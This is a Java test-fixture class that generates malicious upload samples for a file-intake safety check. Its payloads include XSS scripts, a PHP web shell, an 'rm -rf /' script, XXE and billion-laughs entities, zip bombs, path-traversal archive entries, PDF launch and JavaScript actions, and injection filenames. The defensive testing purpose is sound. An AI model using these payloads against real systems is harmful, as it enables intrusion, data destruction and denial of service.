package org.fangxin.safety;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.fangxin.intake.internal.file.Pictures;

/** Files that mean harm, each made here: what runs, what swells, what reaches out, what tells who sent it. */
final class HarmfulFiles {
    private static final String SCRIPT = "<script>alert(document.domain)</script>";
    private static final String PROOF = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    private static final String TYPES = "[Content_Types].xml";
    private static final String WORD = "word/document.xml";
    private static final String EXCEL = "xl/workbook.xml";
    private static final String OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final int BOMB = 64 << 20;
    private static final int MANY = 20_000;

    /**
     * One file.
     *
     * @param type what the sender says it is
     * @param mayBeKept whether it may be taken, as it does nothing where it is only handed out to be saved
     */
    record Harmful(String name, String type, byte[] content, boolean mayBeKept) {}

    private final List<Harmful> all = new ArrayList<>();
    private final String listener;

    /** @param listener an address that nobody may be brought to call */
    private HarmfulFiles(String listener) {
        this.listener = listener;
    }

    static List<Harmful> all(String listener) throws IOException {
        HarmfulFiles files = new HarmfulFiles(listener);
        files.pagesUnderOtherNames();
        files.programs();
        files.twoThingsAtOnce();
        files.archives();
        files.bombs();
        files.pictures();
        files.officeThatReachesOut();
        files.documentsThatAct();
        files.broken();
        files.tracesOfTheSender();
        files.names();
        return List.copyOf(files.all);
    }

    /** Those alone that would have somebody fetch something, or act. */
    static List<Harmful> reachingOut(String address) throws IOException {
        HarmfulFiles files = new HarmfulFiles(address);
        files.officeThatReachesOut();
        files.documentsThatAct();
        return List.copyOf(files.all);
    }

    private void refused(String name, String type, byte[] content) {
        all.add(new Harmful(name, type, content, false));
    }

    private void harmlessWhenSaved(String name, String type, byte[] content) {
        all.add(new Harmful(name, type, content, true));
    }

    private void pagesUnderOtherNames() {
        String page = "<!DOCTYPE html><html><body>" + SCRIPT + "</body></html>";
        refused("page.jpg", "image/jpeg", bytes(page));
        refused("page.txt", "text/plain", bytes(page));
        refused("blank-before.png", "image/png", bytes("\n\n   <html>" + SCRIPT));
        refused("comment-before.pdf", "application/pdf", bytes("<!-- x --><html>" + SCRIPT + "</html>"));
        refused("mark-before.txt", "text/plain", bytes("\u00EF\u00BB\u00BF" + page));
        harmlessWhenSaved("wide.txt", "text/plain", ("\uFEFF" + page).getBytes(StandardCharsets.UTF_16LE));
        refused("drawing.png", "image/png", bytes("<svg xmlns=\"http://www.w3.org/2000/svg\">" + SCRIPT + "</svg>"));
        refused(
                "drawing.svg",
                "image/svg+xml",
                bytes("<?xml version=\"1.0\"?><svg onload=\"alert(1)\" xmlns=\"http://www.w3.org/2000/svg\"/>"));
        refused(
                "page.xhtml",
                "application/xhtml+xml",
                bytes("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\">" + SCRIPT + "</html>"));
        harmlessWhenSaved("script.txt", "text/javascript", bytes("alert(document.cookie)\n"));
        harmlessWhenSaved("words.html", "text/html", bytes("商家说：" + SCRIPT));
    }

    private void programs() {
        refused("receipt.pdf", "application/pdf", bytes("MZ\u0090\0\3\0\0\0\4\0\0\0\u00ff\u00ff"));
        refused("program", "image/jpeg", bytes("\177ELF\2\1\1\0\0\0\0\0\0\0\0\0"));
        refused("run.txt", "text/plain", bytes("#!/bin/sh\nrm -rf /\n"));
        refused("Class.jpg", "image/jpeg", bytes("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041\0\12"));
        refused(
                "old.doc",
                "application/msword",
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(600)));
        refused("module.mp4", "video/mp4", bytes("\0asm\1\0\0\0"));
        harmlessWhenSaved("eicar.com", "application/octet-stream", bytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + PROOF));
    }

    private void twoThingsAtOnce() throws IOException {
        byte[] jpeg = Pictures.drawn("jpg");
        byte[] png = Pictures.drawn("png");
        byte[] zip = zip("payload.class", bytes("x"));
        harmlessWhenSaved("picture-and-page.jpg", "text/html", joined(jpeg, bytes("<html>" + SCRIPT)));
        harmlessWhenSaved("picture-and-archive.jpg", "application/java-archive", joined(jpeg, zip));
        harmlessWhenSaved(
                "picture-and-code.png", "application/x-php", joined(png, bytes("<?php system($_GET[0]); ?>")));
        harmlessWhenSaved(
                "paper-and-page.pdf", "text/html", joined(bytes("%PDF-1.4\n<html>" + SCRIPT + "\n"), paper("")));
        harmlessWhenSaved("page-and-paper.pdf", "text/html", joined(bytes("<html>" + SCRIPT + "\n"), paper("")));
        refused("picture-and-script.gif", "image/gif", bytes("GIF89a/*" + "\0".repeat(20) + "*/=1;alert(1)"));
        harmlessWhenSaved("sound-and-page.mp3", "text/html", bytes("ID3\3\0\0\0\0\0\0<html>" + SCRIPT));
        harmlessWhenSaved("film-and-page.mp4", "text/html", bytes("\0\0\0\30ftypisom\0\0\2\0isomiso2<html>" + SCRIPT));
        refused("archive-behind-a-page.docx", OFFICE, joined(bytes("<html>" + SCRIPT), office(WORD, "<w:document/>")));
    }

    private void archives() throws IOException {
        refused("a.zip", "application/zip", zip("a.txt", bytes("a")));
        refused("up.docx", OFFICE, officeWith("../../../../fangxin-slipped", bytes("x")));
        refused("root.docx", OFFICE, officeWith("/tmp/fangxin-slipped", bytes("x")));
        refused("back.docx", OFFICE, officeWith("..\\..\\fangxin-slipped", bytes("x")));
        refused(
                "drive.xlsx",
                OFFICE,
                zip(TYPES, bytes("<Types/>"), EXCEL, bytes("<workbook/>"), "C:\\fangxin-slipped", bytes("x")));
    }

    private void bombs() throws IOException {
        refused("thousand-to-one.docx", OFFICE, officeWith("word/media/image1.bmp", new byte[BOMB]));
        refused(
                "thousand-to-one.xlsx",
                OFFICE,
                zip(TYPES, bytes("<Types/>"), EXCEL, bytes("<workbook/>"), "xl/sharedStrings.xml", new byte[BOMB]));
        refused("small-by-its-own-word.docx", OFFICE, understated(officeWith("word/media/image1.bmp", new byte[BOMB])));
        refused("bomb-within.docx", OFFICE, officeWith("word/embeddings/inner.zip", nested()));
        refused(
                "bomb-within.xlsx",
                OFFICE,
                zip(TYPES, bytes("<Types/>"), EXCEL, bytes("<workbook/>"), "xl/embeddings/inner.zip", nested()));
        refused("twenty-thousand-parts.docx", OFFICE, crowded());
        refused("rows.csv.gz", "application/gzip", packed(new byte[BOMB]));
        harmlessWhenSaved("long-line.txt", "text/csv", bytes("a,".repeat(2 << 20)));
        harmlessWhenSaved("swells.pdf", "application/pdf", paper("/Contents 4 0 R"));
    }

    private void pictures() {
        byte[] jpeg = Pictures.drawn("jpg");
        for (int i = 0; i < jpeg.length - 9; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) {
                ByteBuffer.wrap(jpeg).putShort(i + 5, (short) 65_500).putShort(i + 7, (short) 65_500);
                break;
            }
        }
        byte[] webp = Pictures.webp();
        Arrays.fill(webp, 24, 30, (byte) 0xFF);
        refused("flood.png", "image/png", Pictures.flood());
        refused("flood.jpg", "image/jpeg", jpeg);
        refused("flood.webp", "image/webp", webp);
    }

    private void officeThatReachesOut() throws IOException {
        String asks = "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"" + listener + "\">]>";
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"" + "&a;".repeat(50)
                + "\"><!ENTITY c \"" + "&b;".repeat(50) + "\"><!ENTITY x \"" + "&c;".repeat(50) + "\">]>";
        refused("asks.docx", OFFICE, office(WORD, asks + "<w:document>&x;</w:document>"));
        refused("laughs.docx", OFFICE, office(WORD, laughs + "<w:document>&x;</w:document>"));
        refused(
                "asks-wide.docx",
                OFFICE,
                zip(
                        TYPES,
                        bytes("<Types/>"),
                        WORD,
                        ("\uFEFF" + asks + "<w:document>&x;</w:document>").getBytes(StandardCharsets.UTF_16LE)));
        for (String part : List.of(
                EXCEL, "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels", TYPES)) {
            refused("asks-in-" + part.replaceAll("\\W", "-") + ".xlsx", OFFICE, workbook(part, asks, "&x;"));
            refused("laughs-in-" + part.replaceAll("\\W", "-") + ".xlsx", OFFICE, workbook(part, laughs, "&x;"));
        }
        refused("macro.docm", OFFICE, officeWith("word/vbaProject.bin", bytes("x")));
        refused(
                "macro-renamed.docx",
                OFFICE,
                zip(
                        TYPES,
                        bytes(
                                "<Types><Override PartName=\"/word/a.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"),
                        WORD,
                        bytes("<w:document/>"),
                        "word/a.bin",
                        bytes("x")));
        refused("macro-by-case.docx", OFFICE, officeWith("word/VBAPROJECT.BIN", bytes("x")));
        refused(
                "control.xlsx",
                OFFICE,
                zip(TYPES, bytes("<Types/>"), EXCEL, bytes("<workbook/>"), "xl/activeX/activeX1.bin", bytes("x")));
        refused(
                "template-elsewhere.docx",
                OFFICE,
                officeWith(
                        "word/_rels/settings.xml.rels",
                        bytes(
                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                                        + listener + "\" TargetMode=\"External\"/></Relationships>")));
    }

    private void documentsThatAct() throws IOException {
        harmlessWhenSaved(
                "script.pdf", "application/pdf", paper("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
        harmlessWhenSaved("launch.pdf", "application/pdf", paper("/OpenAction << /S /Launch /F (cmd.exe) >>"));
        harmlessWhenSaved("calls.pdf", "application/pdf", paper("/OpenAction << /S /URI /URI (" + listener + ") >>"));
        harmlessWhenSaved("circle.pdf", "application/pdf", paper("/Parent 3 0 R /Kids [3 0 R 3 0 R]"));
        harmlessWhenSaved("deep.pdf", "application/pdf", paper("/X " + "[".repeat(MANY) + "]".repeat(MANY)));
    }

    private void broken() {
        refused("empty.jpg", "image/jpeg", new byte[0]);
        refused("one-byte.pdf", "application/pdf", new byte[] {1});
        harmlessWhenSaved("half.jpg", "image/jpeg", Arrays.copyOf(Pictures.photograph(), 400));
        refused("half.png", "image/png", Arrays.copyOf(Pictures.drawn("png"), 12));
        refused("half.docx", OFFICE, bytes("PK\3\4\24\0\0\0\10\0"));
    }

    private void tracesOfTheSender() throws IOException {
        harmlessWhenSaved("photo.jpg", "image/jpeg", Pictures.photograph());
        harmlessWhenSaved("screen.png", "image/png", Pictures.drawing());
        harmlessWhenSaved("screen.webp", "image/webp", Pictures.webp());
        harmlessWhenSaved("letter.pdf", "application/pdf", paper("", "/Author (" + Pictures.AUTHOR + ")"));
        harmlessWhenSaved(
                "letter.docx",
                OFFICE,
                officeWith(
                        "docProps/core.xml",
                        bytes("<cp:coreProperties><dc:creator>" + Pictures.AUTHOR
                                + "</dc:creator></cp:coreProperties>")));
        harmlessWhenSaved(
                "film.mp4",
                "video/mp4",
                bytes("\0\0\0\30ftypisom\0\0\2\0isomiso2\0\0\0\60udta\u00a9xyz" + Pictures.PLACE));
    }

    private void names() {
        byte[] jpeg = Pictures.drawn("jpg");
        for (String name : List.of(
                "../../../../fangxin-slipped.jpg",
                "..\\..\\fangxin-slipped.jpg",
                "a.jpg\0.exe",
                "a\u202Egpj.exe",
                "%0d%0aSet-Cookie: a=b.jpg",
                "a\"; filename=\"b.html",
                "<img src=x onerror=alert(1)>.jpg",
                ".htaccess",
                "CON.jpg",
                "证".repeat(300) + ".jpg",
                "=1+1.jpg")) {
            harmlessWhenSaved(name, "image/jpeg", jpeg);
        }
    }

    static byte[] office(String part, String xml) throws IOException {
        return zip(TYPES, bytes("<Types/>"), part, bytes(xml));
    }

    static byte[] officeWith(String part, byte[] content) throws IOException {
        return zip(TYPES, bytes("<Types/>"), WORD, bytes("<w:document/>"), part, content);
    }

    /** A workbook with one sheet and one header; a part of it begins with what was given. */
    private static byte[] workbook(String spoilt, String head, String reference) throws IOException {
        String main = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
        String relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        Object[] parts = {
            TYPES,
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">%s</Types>",
            EXCEL,
            "<workbook " + main + " xmlns:r=\"" + relations
                    + "\"><sheets><sheet name=\"一\" sheetId=\"1\" r:id=\"r1\"/></sheets>%s</workbook>",
            "xl/_rels/workbook.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\""
                    + relations + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>%s</Relationships>",
            "xl/sharedStrings.xml",
            "<sst " + main + "><si><t>日期%s</t></si></sst>",
            "xl/worksheets/sheet1.xml",
            "<worksheet " + main
                    + "><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>%s</t></is></c></row></sheetData></worksheet>"
        };
        for (int i = 0; i < parts.length; i += 2) {
            boolean here = parts[i].equals(spoilt);
            String xml = String.valueOf(parts[i + 1]).formatted(here ? reference : "");
            parts[i + 1] = ((here ? head : "") + xml).getBytes(StandardCharsets.UTF_8);
        }
        return zip(parts);
    }

    private static byte[] nested() throws IOException {
        byte[] inner = zip("0", new byte[BOMB]);
        for (int i = 0; i < 3; i++) {
            inner = zip("a.zip", inner, "b.zip", inner, "c.zip", inner);
        }
        return inner;
    }

    private static byte[] crowded() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(WORD));
            for (int i = 0; i < MANY; i++) {
                zip.putNextEntry(new ZipEntry("word/" + i));
            }
        }
        return out.toByteArray();
    }

    /** The directory at the end says ten bytes where there are millions. */
    private static byte[] understated(byte[] zip) {
        ByteBuffer bytes = ByteBuffer.wrap(zip).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i < zip.length - 46; i++) {
            if (bytes.getInt(i) == 0x02014b50 && bytes.getInt(i + 24) == BOMB) {
                bytes.putInt(i + 24, 10);
            }
        }
        return zip;
    }

    private static byte[] packed(byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(content);
        }
        return out.toByteArray();
    }

    static byte[] paper(String page) {
        return paper(page, "");
    }

    /** A paper of one page, its table of contents left to be rebuilt. */
    private static byte[] paper(String page, String told) {
        return bytes("""
                %%PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R %s >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >> endobj
                5 0 obj << %s >> endobj
                trailer << /Root 1 0 R /Info 5 0 R >>
                %%%%EOF
                """.formatted(page.startsWith("/OpenAction") ? page : "", page, told));
    }

    static byte[] zip(Object... namesAndContents) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                zip.write((byte[]) namesAndContents[i + 1]);
            }
        }
        return out.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            out.write(first);
            out.write(second);
        } catch (IOException never) {
            throw new UncheckedIOException(never);
        }
        return out.toByteArray();
    }

    static byte[] bytes(String text) {
        boolean wide = text.chars().anyMatch(one -> one > 0xFF);
        return text.getBytes(wide ? StandardCharsets.UTF_8 : StandardCharsets.ISO_8859_1);
    }
}
